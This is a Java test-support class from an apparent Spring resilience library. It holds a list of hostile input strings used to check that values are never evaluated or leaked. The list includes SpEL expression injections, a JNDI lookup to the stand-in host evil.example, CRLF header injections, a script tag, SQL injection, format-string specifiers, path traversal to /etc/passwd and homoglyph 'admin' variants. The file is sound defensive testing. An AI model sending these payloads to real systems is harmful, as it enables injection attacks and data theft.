package dev.resilience.spring;

import java.util.ArrayList;
import java.util.List;

/** What callers send who hope that somebody evaluates, splits, prints or confuses it. Each is a value of its own. */
public final class HostileValues {

    /** Is there nowhere unless somebody has replaced a placeholder: the tests configure it as {@code bait}. */
    public static final String BAIT = "swallowed-the-bait";

    /** Counts who has called it; expressions among the values do. */
    public static int touched;

    private HostileValues() {}

    /** Called by expressions, if anybody evaluates them. */
    public static String touch() {
        touched++;
        return BAIT;
    }

    /** All of them. Each holds a mark that occurs nowhere else, so that it is found wherever it leaks. */
    public static List<String> all() {
        String touch = "T(" + HostileValues.class.getName() + ").touch()";
        List<String> values = new ArrayList<>(List.of(
                "${bait}",
                "${bait:x}",
                "$${bait}",
                "#{" + touch + "}",
                touch,
                "#" + touch,
                "@tenants",
                "#{@tenants.resolve(null, null)}",
                "#root",
                "#this.class.classLoader",
                "principal",
                "ip",
                "header:Authorization",
                "${jndi:ldap://evil.example/a}",
                "%{" + touch + "}",
                "<%= " + touch + " %>",
                "{{7*7}}",
                "${7*7}",
                "a\r\nX-Injected: yes",
                "a\nSet-Cookie: evil=1",
                "a\rX-Injected: yes",
                "a\r\n\r\n<script>alert(1)</script>",
                "\r\n",
                "a%0d%0aX-Injected: yes",
                "a\u0085X-Injected: yes",
                "a\u2028X-Injected: yes",
                "a\u560D\u560AX-Injected: yes",
                "\u0000",
                "a\u0000b",
                "\u001B[31mred\u001B[0m",
                "\u202Egnirts",
                "\uFEFFa",
                "\uD800",
                "\";q=999999;w=1, \"other",
                "\\\"",
                "'; DROP TABLE keys; --",
                "{\"policy\":\"other\"}",
                "%s%s%s%n%x",
                "{}{}{}",
                "../../../../etc/passwd",
                "/actuator/resilience",
                "(null)",
                "null",
                "admin",
                "Admin",
                "\uFF41dmin",
                "\u0430dmin",
                "adm\u0131n",
                "admin\u200B",
                "a\u0301dmin",
                "\u00E1dmin",
                "x".repeat(100_000),
                "\u00E9".repeat(10_000),
                "((((((((((".repeat(1_000)));
        values.replaceAll(value -> value + mark(values.indexOf(value)));
        return values;
    }

    /** What to look for. */
    public static List<String> marks() {
        List<String> marks = new ArrayList<>();
        for (int at = 0; at < all().size(); at++) {
            marks.add(mark(at));
        }
        return marks;
    }

    private static String mark(int at) {
        return " mark" + (char) ('a' + at / 26) + (char) ('a' + at % 26) + "ed";
    }
}
